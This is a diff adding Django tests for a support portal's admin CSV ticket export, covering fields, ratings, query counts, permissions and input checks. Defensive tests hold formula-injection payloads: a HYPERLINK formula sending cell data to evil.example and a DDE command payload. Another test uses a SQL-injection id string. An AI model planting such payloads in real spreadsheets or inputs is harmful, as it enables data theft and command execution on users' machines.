@@ -1,17 +1,24 @@
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
 from support_portal.accounts.roles import Role
 from tests.factories import StaffFactory, UserFactory
-from tests.tickets.factories import TicketFactory, deposit_intake, upload
-from tickets.models import Ticket
+from tests.tickets.factories import TeamFactory, TicketFactory, deposit_intake, upload
+from tickets.exports import csv_safe
+from tickets.models import Ticket, TicketRating
 from tickets.services import (
     ticket_assign,
+    ticket_change_status,
     ticket_open,
     ticket_reply_as_agent,
 )
 
 pytestmark = pytest.mark.django_db
+S = Ticket.Status
+CHANGELIST = "admin:tickets_ticket_changelist"
 NOTE = "INTERNAL-NOTE-4b7e: requester is on the fraud watchlist"
 
 
@@ -156,3 +163,181 @@ def test_anonymous_transcript_redirects_to_login(client, conversation):
     response = client.get(transcript(conversation))
     assert response.status_code == 302
     assert response.url.startswith(reverse("account_login"))
+
+
+# --- agent CSV -----------------------------------------------------------------
+
+
+@pytest.fixture
+def console(client, agent, settings):
+    settings.STAFF_MFA_REQUIRED = False
+    client.force_login(agent)
+    return client
+
+
+def export(client, tickets):
+    data = {"action": "export_csv", "index": 0, "_selected_action": [t.pk for t in tickets]}
+    return client.post(reverse(CHANGELIST), data)
+
+
+def rows(response) -> list[list[str]]:
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(body)))
+
+
+def test_csv_export_streams_the_ticket_fields(console, agent, customer, committed):
+    team = TeamFactory(name="Wallets")
+    with committed():
+        ticket = ticket_open(
+            requester=customer,
+            subject="Deposit not arrived",
+            body="SECRET-BODY-TEXT-91",
+            category=Ticket.Category.OTHER,
+            language="en",
+            channel=Ticket.Channel.APP,
+        )
+    Ticket.objects.filter(pk=ticket.pk).update(team=team, assignee=agent)
+    ticket = ticket_change_status(ticket=ticket, actor=agent, status=S.RESOLVED, notify=False)
+    TicketRating.objects.create(ticket=ticket, resolution_number=ticket.resolution_count, score=4)
+    TicketFactory(subject="Not selected")
+
+    response = export(console, [ticket])
+
+    assert response.status_code == 200
+    assert response.streaming
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="tickets-')
+    header, *body = rows(response)
+    assert header == [
+        "Reference",
+        "Subject",
+        "Category",
+        "Status",
+        "Priority",
+        "Team",
+        "Assignee",
+        "Language",
+        "Channel",
+        "Created at",
+        "First response due",
+        "Resolution due",
+        "SLA state",
+        "Satisfaction rating",
+    ]
+    assert len(body) == 1
+    row = dict(zip(header, body[0], strict=True))
+    ticket.refresh_from_db()
+    assert row["Reference"] == ticket.reference
+    assert row["Subject"] == "Deposit not arrived"
+    assert row["Category"] == "Other"
+    assert row["Status"] == "Resolved"
+    assert row["Priority"] == ticket.get_priority_display()
+    assert row["Team"] == "Wallets"
+    assert row["Assignee"] == agent.email
+    assert row["Language"] == "en"
+    assert row["Channel"] == "App"
+    assert row["Created at"] == ticket.created_at.isoformat(timespec="seconds")
+    assert row["Satisfaction rating"] == "4"
+    assert b"SECRET-BODY-TEXT-91" not in b"".join(export(console, [ticket]).streaming_content)
+
+
+def test_csv_rating_is_the_latest_resolutions(console):
+    ticket = TicketFactory(resolution_count=2)
+    TicketRating.objects.create(ticket=ticket, resolution_number=1, score=1)
+    unrated = TicketFactory(resolution_count=1)
+
+    by_reference = {row[0]: row[-1] for row in rows(export(console, [ticket, unrated]))[1:]}
+
+    assert by_reference == {ticket.reference: "", unrated.reference: ""}
+    TicketRating.objects.create(ticket=ticket, resolution_number=2, score=5)
+    assert rows(export(console, [ticket]))[1][-1] == "5"
+
+
+@pytest.mark.parametrize(
+    ("subject", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK"),
+        ("+1+cmd|' /C calc'!A0", "'+1"),
+        ("-2+3", "'-2"),
+        ("@SUM(A1:A9)", "'@SUM"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Deposit = missing", "Deposit = missing"),
+    ],
+)
+def test_csv_cells_cannot_start_a_formula(console, subject, cell):
+    ticket = TicketFactory(subject=subject)
+    assert rows(export(console, [ticket]))[1][1].startswith(cell)
+
+
+def test_csv_safe_escapes_every_formula_prefix():
+    for prefix in ("=", "+", "-", "@", "\t", "\r"):
+        assert csv_safe(prefix + "x") == "'" + prefix + "x"
+    assert csv_safe(None) == ""
+    assert csv_safe(3) == "3"
+    assert csv_safe("T-ABC") == "T-ABC"
+
+
+@pytest.mark.parametrize("count", [10, 50])
+def test_csv_export_query_count_is_constant(console, django_assert_max_num_queries, count):
+    team = TeamFactory()
+    agent = StaffFactory()
+    tickets = [
+        TicketFactory(team=team if i % 2 else None, assignee=agent if i % 3 else None)
+        for i in range(count)
+    ]
+    for ticket in tickets[::4]:
+        TicketRating.objects.create(ticket=ticket, resolution_number=0, score=3)
+    console.get(reverse(CHANGELIST))  # first request records the user session
+    # Session, user, two for permissions, three for the changelist's filters and
+    # count, then a single one for all the rows with their team, assignee and rating.
+    with django_assert_max_num_queries(8):
+        response = export(console, tickets)
+        lines = rows(response)
+    assert len(lines) == count + 1
+
+
+def test_csv_export_of_all_matching_tickets(console):
+    shown, *_others = TicketFactory.create_batch(3)
+    # "Select all" sends the ticks on the page and asks for every match.
+    response = console.post(
+        reverse(CHANGELIST),
+        {"action": "export_csv", "index": 0, "select_across": "1", "_selected_action": shown.pk},
+    )
+    assert len(rows(response)) == 4
+
+
+def test_staff_without_ticket_permission_cannot_export(client, settings):
+    settings.STAFF_MFA_REQUIRED = False
+    ticket = TicketFactory()
+    client.force_login(StaffFactory(role=Role.EDITOR))
+    response = export(client, [ticket])
+    assert response.status_code == 403
+
+
+def test_customers_cannot_reach_the_export(client_a):
+    ticket = TicketFactory()
+    response = export(client_a, [ticket])
+    assert response.status_code == 302
+    assert not getattr(response, "streaming", False)
+
+
+def test_export_of_unknown_ids_is_an_empty_csv(console):
+    response = console.post(
+        reverse(CHANGELIST), {"action": "export_csv", "index": 0, "_selected_action": ["999999"]}
+    )
+    assert response.status_code == 200
+    assert len(rows(response)) == 1  # the header only
+
+
+def test_export_with_forged_ids_is_a_bad_request(console):
+    response = console.post(
+        reverse(CHANGELIST), {"action": "export_csv", "index": 0, "_selected_action": ["1 OR 1=1"]}
+    )
+    assert response.status_code == 400
+
+
+def test_export_without_a_selection_changes_nothing(console):
+    TicketFactory()
+    response = console.post(reverse(CHANGELIST), {"action": "export_csv", "index": 0})
+    assert response.status_code == 302
